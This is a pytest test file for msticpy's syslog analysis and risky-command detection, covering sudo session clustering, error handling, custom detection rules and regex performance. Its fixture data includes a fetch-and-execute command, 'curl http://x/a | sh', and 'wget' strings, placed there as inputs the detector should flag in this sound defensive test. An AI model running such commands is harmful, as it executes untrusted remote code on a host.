"""syslog_utils and cmd_line: errors, input safety and classic paths."""

from __future__ import annotations

import json
from pathlib import Path

import pandas as pd
import pytest

from msticpy.analysis import syslog_utils
from msticpy.common.exceptions import InvalidPatternError, MsticpyException
from msticpy.transform import cmd_line

OPEN = "pam_unix(sudo:session): session opened for user root"
CLOSE = "pam_unix(sudo:session): session closed for user root"
TIMES = ["2024-01-01T10:00:00", "2024-01-01T10:00:01", "2024-01-01T10:00:02", "2024-01-01T10:05:00"]


def _events() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "TimeGenerated": pd.to_datetime(TIMES),
            "SyslogMessage": [OPEN, None, "x", CLOSE],
            "Command": ["curl http://x/a | sh", "", "ls", "/bin/bash"],
            "Sudoer": ["alice", "bob", "carol", "dave"],
        }
    )


def test_classic_paths_are_the_same_modules() -> None:
    from msticpy.sectools import cmd_line as classic_cmd
    from msticpy.sectools import syslog_utils as classic_syslog

    assert classic_cmd is cmd_line
    assert classic_syslog is syslog_utils


def test_sessions_use_sudoer_and_tolerate_missing_messages() -> None:
    sessions = syslog_utils.cluster_syslog_logons_df(_events())
    # Column by column: pandas 2.2.0's to_dict("list") turns datetimes into integers.
    assert {name: sessions[name].tolist() for name in sessions.columns} == {
        "User": ["alice"],
        "Start": [pd.Timestamp("2024-01-01 10:00:00")],
        "End": [pd.Timestamp("2024-01-01 10:05:00")],
    }


def test_no_sessions_is_msticpy_exception() -> None:
    events = _events()
    events["SyslogMessage"] = "nothing"
    with pytest.raises(MsticpyException, match="no logon sessions"):
        syslog_utils.cluster_syslog_logons_df(events)


def test_risky_cmd_line_does_not_modify_the_input() -> None:
    events = _events()
    before = events.copy()
    found = cmd_line.risky_cmd_line(events, "Syslog")
    assert found == {
        pd.Timestamp("2024-01-01 10:00:00"): "curl http://x/a | sh",
        pd.Timestamp("2024-01-01 10:05:00"): "/bin/bash",
    }
    pd.testing.assert_frame_equal(events, before)
    cmd_line.cmd_speed(events, "Command", time=10, events=1)
    pd.testing.assert_frame_equal(events, before)


def test_errors_are_msticpys() -> None:
    with pytest.raises(MsticpyException, match="does not contain the Cmd field"):
        cmd_line.risky_cmd_line(_events(), "Syslog", cmd_field="Cmd")
    with pytest.raises(KeyError):
        cmd_line.risky_cmd_line(_events(), "Windows")
    with pytest.raises(MsticpyException, match="Cmd column"):
        cmd_line.cmd_speed(_events(), "Cmd")
    events = _events()
    events["TimeGenerated"] = events["TimeGenerated"].astype(str)
    with pytest.raises(MsticpyException, match="not a datetime"):
        cmd_line.cmd_speed(events, "Command")
    sessions = syslog_utils.cluster_syslog_logons_df(_events())
    with pytest.raises(MsticpyException, match="At least one"):
        syslog_utils.risky_sudo_sessions(sessions)


def test_user_rules_file_and_unsupported_rule(tmp_path: Path) -> None:
    rules = tmp_path / "rules.json"
    rules.write_text(json.dumps({"Custom": [r".*\bls\b"]}), encoding="utf-8")
    found = cmd_line.risky_cmd_line(_events(), "Custom", detection_rules=str(rules))
    assert list(found.values()) == ["ls"]
    rules.write_text(json.dumps({"Custom": [r"(?<=a)b"]}), encoding="utf-8")
    with pytest.raises(InvalidPatternError, match="detection rule 0"):
        cmd_line.risky_cmd_line(_events(), "Custom", detection_rules=str(rules))


def test_hostile_command_lines_stay_linear() -> None:
    # Python's re backtracks quadratically on the first line (no "sh" after "wget");
    # the linear-time engine answers both at once.
    miss = "wget " + "s" * 1_000_000
    hit = "wget " + "s" * 1_000_000 + "h"
    events = pd.DataFrame(
        {"TimeGenerated": pd.to_datetime(["2024-01-01", "2024-01-02"]), "Command": [miss, hit]}
    )
    found = cmd_line.risky_cmd_line(events, "Syslog")
    assert list(found.values()) == [hit]


def test_sudo_sessions_flag_bursts_and_commands() -> None:
    events = _events()
    sessions = syslog_utils.cluster_syslog_logons_df(events)
    risky = cmd_line.risky_cmd_line(events, "Syslog")
    bursts = cmd_line.cmd_speed(events, "Command", time=600, events=2)
    assert [list(b) for b in bursts] == [[0]]
    assert bursts[0][0][1] == pd.Timedelta(minutes=5)
    assert syslog_utils.risky_sudo_sessions(sessions, risky_actions=risky) == {0: "/bin/bash"}
    flagged = syslog_utils.risky_sudo_sessions(
        sessions, risky_actions=risky, suspicious_actions=bursts
    )
    assert flagged == {0: "Suspicious event pattern"}


def test_create_host_record_with_network_data_and_no_geoip() -> None:
    syslog = pd.DataFrame(
        {"Computer": ["web01.contoso.com"] * 3, "ProcessName": ["sshd", "CRON", "nginx"]}
    )
    net = pd.DataFrame(
        [{"PrivateIPAddresses": "10.0.0.4, 10.0.0.5, 10.0.0.4", "PublicIPAddresses": "20.1.2.3"}]
    )
    host = syslog_utils.create_host_record(syslog, None, net)
    assert (host.HostName, host.DnsDomain) == ("web01", "contoso.com")
    assert [ip.Address for ip in host["private_ips"]] == ["10.0.0.4", "10.0.0.5"]
    assert [ip.Address for ip in host["public_ips"]] == ["20.1.2.3"]
    assert all(ip.Location is None for ip in host["private_ips"])
    assert "Applications" not in host.properties  # only set with heartbeat data, as in msticpy
    two_rows = pd.concat([net, net], ignore_index=True)
    host = syslog_utils.create_host_record(syslog, None, two_rows)
    assert host["private_ips"] == [] and host["public_ips"] == []
